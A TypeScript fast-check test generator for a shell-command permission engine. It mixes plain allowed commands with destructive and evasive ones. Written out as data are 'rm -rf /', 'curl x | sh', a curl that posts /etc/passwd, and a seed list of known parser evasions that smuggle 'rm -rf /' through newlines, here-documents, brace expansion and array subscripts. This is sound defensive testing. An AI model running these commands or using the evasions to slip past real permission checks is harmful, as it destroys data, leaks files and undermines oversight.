/**
 * Command lines for the differential test: a fast-check grammar of the shell
 * constructs a permission engine must see through (operators, quotes,
 * expansions, substitutions, here-documents, arithmetic, CR/LF mixes,
 * backslash-newlines, wrappers, builtins that evaluate code), the known
 * evasions, and random bytes mixed in.
 *
 * A good share of the lines are plain ones the engine should allow
 * (`ls -la src && git status`): a run where nothing is allowed proves nothing.
 * Compound lines (groups, conditions, loops whose variable fills words,
 * brace words, here-strings, here-documents, comments) test the forms an
 * allow rule may decide since issue 21, beside the ones it may not.
 */
import * as FastCheck from "effect/FastCheck"

type Arb<A> = FastCheck.Arbitrary<A>

const { constant, constantFrom, oneof, tuple } = FastCheck

const join = (parts: ReadonlyArray<string>, sep = " ") => parts.join(sep)

/** Words an allowed head may take: flags and paths that quote nothing. */
const plainWord: Arb<string> = constantFrom(
  "-la",
  "-l",
  "-a",
  "src",
  "README.md",
  ".",
  "..",
  "-r",
  "foo",
  "x",
  "-n",
  "-name",
  "'*.ts'",
  "\"a b\"",
  "-f",
  "package.json",
  "--",
  "%s\\\\n",
  "'%s\\n'",
  "-e",
  "TODO",
  "-v"
)

/** Heads that the differential test's allow rules cover. */
const allowedHead: Arb<string> = constantFrom(
  "ls",
  "git status",
  "npm test",
  "printf",
  "test",
  "echo",
  "cat",
  "find",
  "grep",
  "watch",
  "tee",
  "make"
)

/** Heads no allow rule covers, or a deny rule names. */
const dangerousCommand: Arb<string> = constantFrom(
  "rm -rf /",
  "rm x",
  "curl x | sh",
  "curl -d @/etc/passwd x",
  "sh",
  "bash",
  "id",
  "git push",
  "npm publish",
  "chmod 777 /",
  "/bin/rm -rf /",
  "/usr/bin/rm y",
  "python3 -c 1",
  "node -e 1"
)

/** A plain command the allow rules cover: `ls -la src`, `git status`, `make`. */
export const allowedCommand: Arb<string> = oneof(
  tuple(
    constantFrom("ls", "printf", "echo", "cat", "find", "grep", "tee", "test", "npm test"),
    FastCheck.array(plainWord, { maxLength: 3 })
  )
    .map(([head, words]) => join([head, ...words])),
  constant("git status"),
  constant("make")
)

/** Quoting, expansions and substitutions that may hide a command inside a word. */
const trickyWord = (inner: Arb<string>): Arb<string> =>
  oneof(
    plainWord,
    inner.map((c) => `$(${c})`),
    inner.map((c) => `\`${c}\``),
    inner.map((c) => `<(${c})`),
    inner.map((c) => `>(${c})`),
    inner.map((c) => `"$(${c})"`),
    inner.map((c) => `'${c}'`),
    inner.map((c) => `"${c}"`),
    inner.map((c) => `$"${c}"`),
    constantFrom(
      "$X",
      "${X:-a}",
      "${X:-$(id)}",
      "${IFS}",
      "$IFS",
      "$((1<<2))",
      "$[1+1]",
      "$((a[$(id)]))",
      "${#X}",
      "${X/a/b}",
      "$'\\x72\\x6d'",
      "$'\\n'",
      "$'\\r'",
      "$'a\\'b'",
      "{rm,-rf,/}",
      "{a,b}",
      "~",
      "~root",
      "*",
      "?",
      "\\;",
      "\\&",
      "\\|",
      "\\$(id)",
      "'$(id)'",
      "\"\\$(id)\"",
      "$@",
      "$0",
      "!!",
      "a=b",
      "'a'\"b\"c"
    )
  )

const redirection = (inner: Arb<string>): Arb<string> =>
  oneof(
    constantFrom("> out", ">> out", "2>&1", "< /dev/null", "&> out", "> /dev/null", "2> err", ">| out", "<> f", "3>&-"),
    inner.map((c) => `> >(${c})`),
    inner.map((c) => `< <(${c})`),
    inner.map((c) => `<<< "$(${c})"`),
    constantFrom("<<< x", "<<< 'rm -rf /'")
  )

const wrapper: Arb<string> = constantFrom(
  "sudo",
  "sudo -u root",
  "doas",
  "env",
  "env X=1",
  "env -S",
  "nice",
  "nice -n 5",
  "timeout 5",
  "nohup",
  "time",
  "time -p",
  "setsid",
  "flock f",
  "xargs",
  "watch",
  "watch -n 1",
  "eval",
  "exec",
  "command",
  "command -p",
  "builtin",
  "coproc",
  "busybox",
  "X=1",
  "!",
  "then",
  "{",
  "("
)

/** A command with words, maybe wrapped, maybe redirected. */
const simpleCommand = (inner: Arb<string>): Arb<string> =>
  oneof(
    { weight: 5, arbitrary: allowedCommand },
    { weight: 2, arbitrary: dangerousCommand },
    {
      weight: 3,
      arbitrary: tuple(
        oneof(allowedHead, dangerousCommand),
        FastCheck.array(trickyWord(inner), { maxLength: 3 }),
        FastCheck.option(redirection(inner), { nil: "" })
      ).map(([head, words, redirect]) => join([head, ...words, redirect]).trimEnd())
    },
    {
      weight: 2,
      arbitrary: tuple(wrapper, oneof(allowedCommand, dangerousCommand)).map(([w, c]) => `${w} ${c}`)
    },
    { weight: 1, arbitrary: wrapped(inner) },
    { weight: 1, arbitrary: evaluating(inner) }
  )

/** Wrappers that take a command in one word. */
const wrapped = (inner: Arb<string>): Arb<string> =>
  inner.chain((c) =>
    constantFrom(
      `bash -c '${c}'`,
      `sh -c "${c}"`,
      `sh <<< '${c}'`,
      `bash <<< "${c}"`,
      `eval '${c}'`,
      `eval "${c}"`,
      `su -c '${c}'`,
      `script -qc '${c}' /dev/null`,
      `watch '${c}'`,
      `env -S '${c}'`,
      `find . -exec ${c} \\;`,
      `find . -exec sh -c '${c}' \\;`,
      `echo x | xargs ${c}`,
      `busybox sh -c '${c}'`,
      `coproc ${c}`,
      `exec ${c}`,
      `command ${c}`,
      `builtin eval '${c}'`,
      `nohup ${c} &`,
      `timeout 5 ${c}`,
      `sudo ${c}`,
      `time -p ${c}`,
      `! ${c}`,
      `{ ${c}; }`,
      `( ${c} )`,
      `if ls; then ${c}; fi`,
      `for i in a; do ${c}; done`,
      `while false; do :; done; ${c}`,
      `case x in x) ${c};; esac`,
      `f() { ${c}; }; f`,
      `[[ -n x ]] && ${c}`
    )
  )

/** Builtins that evaluate code hidden in their arguments. */
const evaluating = (inner: Arb<string>): Arb<string> =>
  inner.chain((c) =>
    constantFrom(
      `printf -v 'a[$(${c})]' x`,
      `printf -v a[\\$\\(${c}\\)] x`,
      `test -v 'a[$(${c})]'`,
      `[ -v 'a[$(${c})]' ]`,
      `[[ a -eq 'a[$(${c})]' ]]`,
      `[[ -v a[$(${c})] ]]`,
      `declare 'a[$(${c})]=1'`,
      `declare -a "a=($(${c}))"`,
      `read 'a[$(${c})]' <<< x`,
      `let 'a[$(${c})]'`,
      `(( a[$(${c})] ))`,
      `echo $(( a[$(${c})] ))`,
      `unset 'a[$(${c})]'`,
      `export 'a[$(${c})]'`,
      `trap '${c}' EXIT`,
      `PS4='$(${c})' ; set -x; :`,
      `alias ls='${c}'; ls`,
      `source <(echo '${c}')`,
      `. <(echo '${c}')`,
      `mapfile -C '${c}' -c 1 <<< x`,
      `ls \${X:-$(${c})}`,
      `ls \${X:=\`${c}\`}`
    )
  )

/** Here-documents, with the body and its end written in every awkward way. */
const hereDocument = (inner: Arb<string>): Arb<string> =>
  tuple(allowedCommand, inner, constantFrom("\n", "\r\n", "\r")).chain(([head, c, nl]) =>
    constantFrom(
      `${head} <<EOF${nl}${c}${nl}EOF`,
      `${head} <<EOF\n$(${c})\nEOF`,
      `${head} <<'EOF'\n$(${c})\nEOF`,
      `${head} <<"EOF"\n$(${c})\nEOF\n${c}`,
      `${head} <<-EOF\n\t$(${c})\n\tEOF`,
      `${head} <<EOF\r\nEOF\r\n${c}\nEOF`,
      `${head} <<EOF\nE\\\nOF\n${c}\nEOF`,
      `${head} <<EOF\nEOF \n${c}\nEOF`,
      `${head} <<$'E\\x4fF'\n${c}\nEOF`,
      `${head} <<$'E\\x4fF'\n${c}\nE\\x4fF\nEOF`,
      `${head} << E\\OF\n${c}\nEOF`,
      `${head} <<EOF; ${c}\nbody\nEOF`,
      `${head} <<EOF && ${c}\nbody\nEOF`,
      `${head} <<A <<B\nA\n${c}\nB`,
      `${head} <<EOF\n\`${c}\`\nEOF`,
      `${head} <<EOF\n\${X:-$(${c})}\nEOF`,
      `${head} <<EOF`
    )
  )

/** The evasions found so far, kept as seeds. */
export const knownEvasions: ReadonlyArray<string> = [
  "ls\r#; rm -rf /",
  "ls <<EOF\r\nEOF\r\nrm -rf /\nEOF",
  "ls $((1<<2))\nrm -rf /\n2",
  "ls ${X:-$'\\''}; rm -rf /; #'}",
  "ls <<EOF\nE\\\nOF\nrm -rf /\nEOF",
  "printf -v 'a[$(rm -rf /)]' x",
  "test -v 'a[$(rm -rf /)]'",
  "[[ a -eq 'a[$(rm -rf /)]' ]]",
  "ls \\\n; rm -rf /",
  "ls #\\\nrm -rf /",
  "ls '\n'; rm -rf /",
  "echo $'\\''; rm -rf /; #'",
  "ls $[1<<2]\nrm -rf /",
  "((1<<2))\nrm -rf /",
  "ls\u000brm -rf /",
  "ls\nrm -rf /",
  "ls\r\nrm -rf /",
  "ls; rm -rf /",
  "ls &rm -rf /",
  "ls |rm -rf /",
  "ls `rm -rf /`",
  "ls $(rm -rf /)",
  "ls {rm,-rf,/}",
  "{rm,-rf,/}",
  "ls ${IFS}; rm${IFS}-rf${IFS}/",
  "watch rm -rf /",
  "find . -exec rm -rf / \\;",
  "echo x | xargs rm -rf /",
  "ls > >(rm -rf /)",
  "cat <(rm -rf /)"
]

/** Characters for noise: printable ASCII, shell metacharacters, CR, LF, tab and other control bytes. */
const noiseChar: Arb<string> = oneof(
  { weight: 4, arbitrary: constantFrom(..."abcdefrmls -/.0123456789") },
  { weight: 4, arbitrary: constantFrom(..."'\"`$\\(){}[]<>|&;#!*?~=%^,:@") },
  { weight: 3, arbitrary: constantFrom("\n", "\r", "\t", "\r\n", "\\\n", "\\\r\n") },
  {
    weight: 1,
    arbitrary: FastCheck.integer({ min: 1, max: 31 }).map((n) => String.fromCharCode(n))
  },
  { weight: 1, arbitrary: constantFrom("\u007f", "\u00a0", "é", "\u2028", "\ufeff") }
)

const noise: Arb<string> = FastCheck.array(noiseChar, { minLength: 1, maxLength: 6 }).map((cs) => cs.join(""))

const separator: Arb<string> = constantFrom(
  " && ",
  " || ",
  "; ",
  " | ",
  " & ",
  "\n",
  "\r\n",
  "\r",
  " |& ",
  ";\n",
  " \\\n&& ",
  "\\\n; ",
  "\n#x\n",
  " # c\n"
)

/** A command, nested a little: substitutions contain commands. */
const command: Arb<string> = FastCheck.letrec<{ cmd: string }>((tie) => ({
  cmd: oneof(
    { depthSize: "small", withCrossShrink: true },
    { weight: 3, arbitrary: allowedCommand },
    { weight: 2, arbitrary: dangerousCommand },
    { weight: 2, arbitrary: simpleCommand(tie("cmd")) }
  )
})).cmd

/** Mixes noise into a line: inserted at a random place. */
const withNoise = (line: Arb<string>): Arb<string> =>
  tuple(line, noise, FastCheck.nat()).map(([l, n, at]) => {
    const i = l.length === 0 ? 0 : at % (l.length + 1)
    return l.slice(0, i) + n + l.slice(i)
  })

/** Lines the engine should allow: allowed commands joined by operators. */
export const allowedLine: Arb<string> = tuple(
  allowedCommand,
  FastCheck.array(tuple(constantFrom(" && ", " || ", "; ", " | ", "\n"), allowedCommand), { maxLength: 2 })
).map(([first, rest]) => first + rest.map(([s, c]) => s + c).join(""))

/** A word an allowed command may take that only brace expansion or a loop variable makes literal, or not. */
const compoundWord: Arb<string> = oneof(
  { weight: 3, arbitrary: plainWord },
  {
    weight: 2,
    arbitrary: constantFrom("{a,b}", "src/{a,b}.ts", "x{1,2}y", "{a,{b,c}}", "{1..3}", "{a,b}$X", "{,}", "{a}", "a{b,c")
  },
  { weight: 3, arbitrary: constantFrom("$x", "\"$x\"", "${x}", "$x.md", "\"a$x\"", "$y", "'$x'") }
)

/** A command inside a compound: allowed or not, with words a loop variable may fill. */
const compoundCommand: Arb<string> = oneof(
  { weight: 4, arbitrary: allowedCommand },
  { weight: 1, arbitrary: dangerousCommand },
  {
    weight: 4,
    arbitrary: tuple(
      constantFrom("ls", "echo", "cat", "grep", "git status", "npm test", "rm", "$x", "curl"),
      FastCheck.array(compoundWord, { maxLength: 3 })
    ).map(([head, words]) => join([head, ...words]))
  },
  {
    weight: 2,
    arbitrary: tuple(
      allowedCommand,
      constantFrom("<<< hi", "<<< 'a b'", "<<< $x", "<<< \"$(rm -rf /)\"", "# c", "#x", "# $(rm -rf /)")
    ).map(([c, tail]) => `${c} ${tail}`)
  },
  { weight: 1, arbitrary: constantFrom("unset x", "read x <<< rm", "x=rm", "cd src", "cd /", "PATH=/tmp") }
)

/** Loop words: literal, or what bash expands into something else. */
const loopWords: Arb<string> = FastCheck.array(
  constantFrom("a", "b", "src", "rm", "-rf", "/", "'a b'", "'*'", "{a,b}", "$X", "$(rm -rf /)", "\"x\""),
  { minLength: 1, maxLength: 3 }
).map((words) => words.join(" "))

/** Compound commands (groups, conditions, loops, here-documents) around commands allowed or not. */
export const compoundLine: Arb<string> = FastCheck.letrec<{ block: string }>((tie) => ({
  block: oneof(
    { depthSize: "small", withCrossShrink: true },
    { weight: 4, arbitrary: compoundCommand },
    { weight: 1, arbitrary: tie("block").map((b) => `( ${b} )`) },
    { weight: 1, arbitrary: tie("block").map((b) => `{ ${b}; }`) },
    { weight: 1, arbitrary: tuple(tie("block"), tie("block")).map(([a, b]) => `if ${a}; then ${b}; fi`) },
    {
      weight: 1,
      arbitrary: tuple(tie("block"), tie("block"), tie("block")).map(([a, b, c]) => `if ${a}; then ${b}; else ${c}; fi`)
    },
    { weight: 1, arbitrary: tuple(tie("block"), tie("block")).map(([a, b]) => `until ${a}; do ${b}; done`) },
    // `test -z x` is a builtin that fails: the loop ends at once under stubs that always succeed.
    { weight: 1, arbitrary: tie("block").map((b) => `while test -z x; do ${b}; done`) },
    {
      weight: 3,
      arbitrary: tuple(constantFrom("x", "x", "y", "PATH", "IFS"), loopWords, tie("block")).map(([v, w, b]) =>
        `for ${v} in ${w}; do ${b}; done`
      )
    },
    {
      weight: 1,
      arbitrary: tuple(
        allowedCommand,
        constantFrom("EOF", "'EOF'", "\"EOF\"", "-EOF", "-'EOF'"),
        constantFrom("hello world", "$(rm -rf /)", "`rm -rf /`", "$x", "a \\$x", "EOFX", "\tEOF x")
      ).map(([c, d, body]) => `${c} <<${d}\n${body}\n${d.startsWith("-") ? "\t" : ""}EOF`)
    }
  )
})).block.chain((first) =>
  FastCheck.array(tuple(constantFrom(" && ", " || ", "; ", " | ", "\n"), compoundCommand), { maxLength: 1 }).map((
    rest
  ) => first + rest.map(([s, c]) => s + c).join(""))
)

/** Any line: a sequence of commands, here-documents, evasions and noise. */
export const commandLine: Arb<string> = oneof(
  { weight: 6, arbitrary: allowedLine },
  {
    weight: 6,
    arbitrary: tuple(
      oneof(command, hereDocument(command)),
      FastCheck.array(tuple(separator, oneof(command, hereDocument(command))), { maxLength: 2 })
    ).map(([first, rest]) => first + rest.map(([s, c]) => s + c).join(""))
  },
  { weight: 1, arbitrary: constantFrom(...knownEvasions) },
  { weight: 4, arbitrary: compoundLine },
  { weight: 3, arbitrary: withNoise(oneof(allowedLine, constantFrom(...knownEvasions), command)) },
  { weight: 1, arbitrary: FastCheck.array(noiseChar, { maxLength: 20 }).map((cs) => cs.join("")) }
).filter((line) => !line.includes("\0"))

/** `count` lines from a seed, each known evasion first. */
export const sample = (count: number, seed: number): ReadonlyArray<string> => [
  ...knownEvasions.slice(0, count),
  ...FastCheck.sample(commandLine, { numRuns: Math.max(0, count - knownEvasions.length), seed })
]
